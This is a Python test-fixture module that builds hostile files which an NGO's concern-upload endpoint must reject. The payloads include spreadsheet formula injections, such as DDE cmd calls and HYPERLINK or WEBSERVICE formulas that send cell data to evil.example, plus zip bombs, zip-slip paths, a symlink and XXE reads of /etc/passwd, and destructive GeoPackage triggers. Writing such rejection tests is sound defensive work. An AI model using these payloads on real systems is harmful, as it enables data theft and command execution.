"""An NGO's tables of concerns that must be refused whole on upload."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from .common import (
    DOCTYPE,
    PLACEMARK,
    ZEROS,
    collection,
    dumps,
    geopackage,
    kml,
    point,
    upload,
    zip_of,
)

HEADER = "id,lat,lon,category,date,text\r\n"
GOOD_ROW = "A-1,52.045,76.915,heating,15.01.2025,No heating since Monday\r\n"
FORMULA = ["spreadsheet formula", "Birge does not import formulas"]


def csv(*rows: str, header: str = HEADER) -> bytes:
    return (header + "".join(rows)).encode()


def xlsx(
    cells: list[list[str]], *, sheet_extra: str = "", formulas: bool = False
) -> bytes:
    """A minimal Excel workbook: inline strings, or formulas with cached values."""

    def cell(ref: str, value: str) -> str:
        text = escape(value)
        if formulas and value.startswith("="):
            # A formula whose result is itself a formula, as Excel caches it.
            return f'<c r="{ref}" t="str"><f>{escape(value[1:])}</f><v>{text}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    rows = "".join(
        f'<row r="{r}">'
        + "".join(cell(f"{chr(65 + c)}{r}", v) for c, v in enumerate(values))
        + "</row>"
        for r, values in enumerate(cells, start=1)
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zip_of(
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas'
                b'.openxmlformats.org/package/2006/content-types"><Default Extension='
                b'"rels" ContentType="application/vnd.openxmlformats-package.relation'
                b'ships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
                b'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="applica'
                b'tion/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                b"</Types>"
            ),
            "_rels/.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{package}">'
                f'<Relationship Id="rId1" Type="{rels}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" '
                f'xmlns:r="{rels}"><sheets><sheet name="concerns" sheetId="1" '
                'r:id="rId1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{package}">'
                f'<Relationship Id="rId1" Type="{rels}/worksheet" '
                'Target="worksheets/sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/worksheets/sheet1.xml": (
                f'<?xml version="1.0" encoding="UTF-8"?>{sheet_extra}<worksheet '
                f'xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
            ).encode(),
        }
    )


def concerns_geojson(**properties: Any) -> bytes:
    return dumps(
        collection(
            {
                "type": "Feature",
                "properties": {
                    "id": "g-1",
                    "category": "heating",
                    "date": "2025-01-15",
                    "text": "Cold flat",
                    **properties,
                },
                "geometry": point(76.915, 52.045),
            }
        )
    )


def imports(folder: Path) -> None:
    def table(name: str, content: bytes, filename: str, words: Any, why: str, **kw):
        upload(
            "imports",
            name,
            content,
            filename,
            words,
            why,
            endpoints=["concern-import"],
            **kw,
        )

    # Formula injection, in every format and every disguise.
    for name, cell in [
        ("equals", "=1+1"),
        ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("dde-cmd", "=cmd|' /C calc'!A0"),
        ("plus-sum", "+SUM(A1:A3)"),
        ("minus-dde", "-2+3+cmd|' /C calc'!A0"),
        ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("leading-spaces", "   =1+1"),
        ("leading-tab", '\t=IMPORTXML(CONCAT("http://evil/",A1),"//a")'),
        ("webservice", '=WEBSERVICE("http://evil.example/"&B2)'),
    ]:
        quoted = '"' + cell.replace('"', '""') + '"'
        table(
            f"csv-formula-{name}",
            csv(GOOD_ROW, f"A-2,52.046,76.916,heating,15.01.2025,{quoted}\r\n"),
            "concerns.csv",
            ["Row 3", 'column "text"', *FORMULA],
            f"a CSV cell that a spreadsheet would run: {name}",
        )
    table(
        "csv-formula-many",
        csv(*(f"A-{n},52.046,76.916,heating,15.01.2025,=A{n}\r\n" for n in range(9))),
        "concerns.csv",
        ["And 4 more cells", *FORMULA],
        "nine formula cells",
    )
    table(
        "csv-formula-in-header",
        csv(
            GOOD_ROW,
            header='id,lat,lon,category,date,"=HYPERLINK(""http://evil"")"\r\n',
        ),
        "concerns.csv",
        ["column name", *FORMULA],
        "a formula as a column name",
    )
    table(
        "csv-formula-semicolon",
        b"id;lat;lon;category;date;text\r\nA-1;52,045;76,915;heating;15.01.2025;"
        b"=1+1\r\n",
        "concerns.csv",
        ["Row 2", *FORMULA],
        "a formula in a semicolon-separated file",
    )
    header = ["id", "lat", "lon", "category", "date", "text"]
    table(
        "xlsx-formula-cell",
        xlsx(
            [header, ["A-1", "52.045", "76.915", "heating", "2025-01-15", "=1+1"]],
            formulas=True,
        ),
        "concerns.xlsx",
        [*FORMULA],
        "an Excel cell holding a formula",
    )
    table(
        "xlsx-formula-text",
        xlsx(
            [
                header,
                [
                    "A-1",
                    "52.045",
                    "76.915",
                    "heating",
                    "2025-01-15",
                    '=HYPERLINK("http://evil")',
                ],
            ]
        ),
        "concerns.xlsx",
        ["Row 2", 'column "text"', *FORMULA],
        "an Excel text cell that reads as a formula",
    )
    table(
        "geojson-formula-property",
        concerns_geojson(text="=cmd|' /C calc'!A0"),
        "concerns.geojson",
        ['column "text"', *FORMULA],
        "a GeoJSON property that is a formula",
    )
    table(
        "kml-formula-description",
        kml(
            "<Placemark><name>=1+1</name><Point><coordinates>76.915,52.045"
            "</coordinates></Point></Placemark>"
        ),
        "concerns.kml",
        [*FORMULA],
        "a KML placemark named with a formula",
    )

    # Encodings Birge cannot read, and text it cannot store.
    table(
        "csv-gb18030",
        csv(GOOD_ROW.replace("No heating", "樹木")).decode().encode("gb18030"),
        "concerns.csv",
        ["neither UTF-8 nor Windows-1251"],
        "Chinese text in GB 18030 (bytes Windows-1251 does not have)",
    )
    table(
        "csv-utf16-no-bom",
        csv(GOOD_ROW).decode().encode("utf-16-le"),
        "concerns.csv",
        ["none of the formats"],
        "UTF-16 without its byte-order mark",
    )
    table(
        "csv-utf32",
        csv(GOOD_ROW).decode().encode("utf-32"),
        "concerns.csv",
        ["NUL characters"],
        "UTF-32 with its byte-order mark",
    )
    table(
        "csv-nul-in-cell",
        csv(GOOD_ROW, "A-2,52.046,76.916,heating,15.01.2025,cold\x00flat\r\n"),
        "concerns.csv",
        ["none of the formats"],
        "a NUL byte inside a cell",
    )
    table(
        "csv-binary",
        bytes(range(256)) * 16,
        "concerns.csv",
        ["none of the formats"],
        "binary data named .csv",
    )

    # Shapes of table no spreadsheet makes.
    table(
        "csv-million-columns",
        ("a," * 1_000_000 + "a\r\n1\r\n").encode(),
        "concerns.csv",
        ["1000001 columns", "at most"],
        "a header of a million and one columns",
    )
    table(
        "csv-huge-cell",
        csv(
            GOOD_ROW, 'A-2,52.046,76.916,heating,15.01.2025,"' + "x" * 200_000 + '"\r\n'
        ),
        "concerns.csv",
        ["Row 3 cannot be read", "field larger than field limit"],
        "a cell of 200 000 characters",
    )
    table(
        "csv-extra-cells",
        csv(GOOD_ROW, "A-2,52.046,76.916,heating,15.01.2025,text,extra,more\r\n"),
        "concerns.csv",
        ["Row 3 has 8 cells", "header names 6"],
        "a row with more cells than the header",
    )
    table(
        "csv-header-only",
        csv(),
        "concerns.csv",
        ["no rows"],
        "a header and nothing else",
    )
    table("csv-empty", b"", "concerns.csv", ["empty"], "an empty file")
    table(
        "csv-bom-only",
        b"\xef\xbb\xbf\r\n",
        "concerns.csv",
        ["empty"],
        "a byte-order mark and a line break",
    )
    table(
        "csv-too-many-rows",
        csv(*(f"A-{n},52.046,76.916,heating,15.01.2025,cold\r\n" for n in range(6))),
        "concerns.csv",
        ["more than 5 rows"],
        "six rows where five are allowed (limit lowered here)",
        settings={"BIRGE_IMPORT_MAX_ROWS": 5},
    )
    table(
        "csv-too-large",
        csv(*[GOOD_ROW] * 40),
        "concerns.csv",
        ["larger than"],
        "a file over the size limit (lowered to 1 kB here)",
        status=[413],
        settings={"BIRGE_IMPORT_MAX_BYTES": 1_000},
    )

    # Archives: bombs, escapes, links and disguises.
    table(
        "xlsx-zip-bomb",
        zip_of({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": ZEROS}),
        "concerns.xlsx",
        ["zip bombs"],
        "a workbook whose sheet unpacks to 50 MB of zeros",
    )
    table(
        "shapefile-zip-bomb",
        zip_of({"a.shp": ZEROS, "a.shx": b"", "a.dbf": b""}),
        "concerns.zip",
        ["zip bombs"],
        "a zipped shapefile that unpacks to 50 MB",
    )
    table(
        "zip-slip",
        zip_of({"../../etc/cron.d/a.shp": b"x", "a.shx": b"", "a.dbf": b""}),
        "concerns.zip",
        ["points outside the archive"],
        "a member named ../../",
    )
    table(
        "zip-absolute-path",
        zip_of({"/etc/a.shp": b"x", "a.shx": b"", "a.dbf": b""}),
        "concerns.zip",
        ["absolute path"],
        "a member with an absolute path",
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.shp", date_time=(2025, 1, 15, 0, 0, 0))
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr(
            zipfile.ZipInfo("a.shx", date_time=(2025, 1, 15, 0, 0, 0)), b""
        )
        archive.writestr(
            zipfile.ZipInfo("a.dbf", date_time=(2025, 1, 15, 0, 0, 0)), b""
        )
    table(
        "zip-symlink",
        out.getvalue(),
        "concerns.zip",
        ["a link"],
        "a member that is a symbolic link to /etc/passwd",
    )
    table(
        "zip-many-members",
        zip_of({f"f{i}.txt": b"x" for i in range(150)}),
        "concerns.zip",
        ["holds 150 files"],
        "an archive of 150 files",
    )
    table(
        "zip-nested",
        zip_of({"inner.zip": zip_of({"a.shp": b"x", "a.shx": b"", "a.dbf": b""})}),
        "concerns.zip",
        ["ZIP archive without a shapefile or a spreadsheet"],
        "a zip inside a zip",
    )
    table(
        "xlsx-doctype",
        xlsx(
            [header, GOOD_ROW.strip().split(",")],
            sheet_extra='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ),
        "concerns.xlsx",
        ["declares a DOCTYPE or entities"],
        "a workbook whose sheet declares an external entity",
    )
    table(
        "csv-named-xlsx",
        csv(GOOD_ROW),
        "concerns.xlsx",
        ["named as a Excel (XLSX) file, but its content is CSV"],
        "CSV given an .xlsx name",
    )
    table(
        "kmz-named-kml",
        zip_of({"doc.kml": kml(PLACEMARK)}),
        "concerns.kml",
        ["named as a KML file"],
        "KMZ given a .kml name",
    )
    table(
        "pdf",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Length 40/Filter/FlateDecode>>"
        b"stream\n"
        + zlib.compress(b"BT /F1 12 Tf (Concerns) Tj ET" * 4)
        + b"\nendstream"
        b"\nendobj\ntrailer<<>>\n%%EOF",
        "concerns.pdf",
        ["none of the formats"],
        "a PDF",
    )

    # GIS files with hostile insides.
    table(
        "kml-external-entity",
        kml(
            "<Placemark><name>&xxe;</name><Point><coordinates>76.915,52.045"
            "</coordinates></Point></Placemark>",
            '<?xml version="1.0"?>\n<!DOCTYPE kml [<!ENTITY xxe SYSTEM '
            '"file:///etc/passwd">]>\n',
        ),
        "concerns.kml",
        DOCTYPE,
        "XXE in a KML of concerns",
    )
    table(
        "kml-network-link",
        kml(
            "<NetworkLink><Link><href>http://evil.example/c.kml</href></Link></NetworkLink>"
        ),
        "concerns.kml",
        ["NetworkLink"],
        "a KML of concerns that links elsewhere",
    )
    table(
        "gpkg-view",
        geopackage(folder, "concern-view", "CREATE VIEW v AS SELECT * FROM objects"),
        "concerns.gpkg",
        ["view “v”"],
        "a GeoPackage of concerns with a view",
    )
    table(
        "gpkg-trigger",
        geopackage(
            folder,
            "concern-trigger",
            "CREATE TRIGGER t AFTER INSERT ON objects BEGIN DELETE FROM objects; END",
        ),
        "concerns.gpkg",
        ["trigger “t”"],
        "a GeoPackage of concerns with a trigger",
    )
    table(
        "geojson-deep",
        b'{"type": "FeatureCollection", "features": '
        + b"[" * 20_000
        + b"]" * 20_000
        + b"}",
        "concerns.geojson",
        ["cannot be read"],
        "GeoJSON nested 20 000 deep",
    )
    table(
        "geojson-geometry-column-taken",
        concerns_geojson(geometry="POINT (0 0)"),
        "concerns.geojson",
        ["A column is named “geometry”"],
        "a property named like the column Birge fills",
    )
